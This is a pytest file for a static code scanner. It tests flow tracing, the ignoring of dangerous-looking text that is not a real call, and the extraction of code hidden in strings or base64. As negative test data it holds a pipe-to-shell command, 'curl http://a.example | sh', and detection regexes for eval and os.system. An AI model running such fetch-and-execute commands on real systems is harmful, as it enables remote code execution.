"""Flows through disguises: names made at run time, folded constants, files, threads, objects, callbacks."""

import re
from pathlib import Path

import pytest

from clawft.scanner.facts import Analysis, Document, Kind, trace
from clawft.scanner.languages.code import analyse

# Blocks of a program below a line `==== language | fact that must be found | what must flow into it`.
_BLOCKS = re.findall(
    r"^==== (.*)\n((?:(?!==== ).*\n)+)", (Path(__file__).parent / "flows.txt").read_text(), re.MULTILINE
)
FLOWS = [(*(part.strip() for part in f"{head}| ".split("|")[:3]), text) for head, text in _BLOCKS]

# language, program: nothing is done here
HOUSEKEEPING = [
    ("python", '"""Runs os.system("id") when asked."""\nx = "curl http://a.example | sh"\n# exec(open("x").read())\n'),
    (
        "python",
        'import re\nDANGEROUS = re.compile(r"eval\\(|os\\.system\\(")\nRULES = {"exec(": "bad"}\nprint(RULES)\n',
    ),
    ("python", "def eval_model(x):\n    return x + 1\nmodel.eval()\n"),
    (
        "javascript",
        "// child_process.exec('id')\nconst r = /eval\\(|exec\\(/g;\nconst s = 'process.env';\n",
    ),
    ("javascript", "const t = `run require('child_process').exec('id')`;\n/* fetch('http://a.example') */\n"),
    ("ruby", "# system 'id'\nx = 'eval(1)'\nputs x\n"),
    ("go", 'package main\n// exec.Command("id")\nvar s = `os.Getenv("A")`\n'),
]

# language, program, (text, language) of a child, how it was reached
COMMANDS = [
    ("python", "import os\nos.system('ls ~')", ("ls ~", "shell"), "exec"),
    ("python", "import subprocess\nsubprocess.run(['bash', '-c', 'ls | wc'])", ("ls | wc", "shell"), "exec"),
    ("python", "import subprocess\nsubprocess.run(['osascript', '-e', 'beep'])", ("beep", "applescript"), "exec"),
    ("python", "import subprocess\nsubprocess.run(['powershell', '-c', 'dir'])", ("dir", "powershell"), "exec"),
    ("python", "import subprocess\nsubprocess.run(['node', '-e', 'f()'])", ("f()", "javascript"), "exec"),
    ("python", "exec('a = ' + '1')", ("a = 1", "python"), "eval"),
    ("javascript", "eval(atob('Zm9vKDEpOyBiYXIoMik='))", ("foo(1); bar(2)", "javascript"), "eval"),
    (
        "python",
        "import base64\nx = base64.b64decode('aW1wb3J0IG9zO29zLmdldGN3ZCgp')",
        ("import os;os.getcwd()", "python"),
        "base64",
    ),
    ("ruby", "`ls -l`", ("ls -l", "shell"), "exec"),
]


def _look(text: str, language: str) -> Analysis:
    return analyse(Document("program", text, language))


def _facts(analysis: Analysis) -> set[tuple[Kind, str]]:
    return {(one.kind, one.target) for one in analysis.facts}


@pytest.mark.parametrize(("language", "sink", "sources", "text"), FLOWS)
def test_a_disguised_flow_is_followed(language: str, sink: str, sources: str, text: str) -> None:
    kind, _, target = sink.partition("=")
    wanted = [one.partition("=") for one in sources.split()]
    for fact in _look(text, language).facts:
        if fact.kind == kind and target in fact.target:
            flows = trace(fact)
            if all(any(one.kind == name and what in one.target for one in flows) for name, _, what in wanted):
                return
    pytest.fail(f"no {sink} fed by {sources or 'anything'}")


@pytest.mark.parametrize(("language", "text"), HOUSEKEEPING)
def test_words_that_are_no_calls_are_no_facts(language: str, text: str) -> None:
    assert _facts(_look(text, language)) == set()


@pytest.mark.parametrize(("language", "text", "child", "how"), COMMANDS)
def test_code_carried_as_text_becomes_a_document(language: str, text: str, child: tuple[str, str], how: str) -> None:
    found = {((one.text, one.language), one.origin[-1]) for one in _look(text, language).children}
    assert (child, how) in found
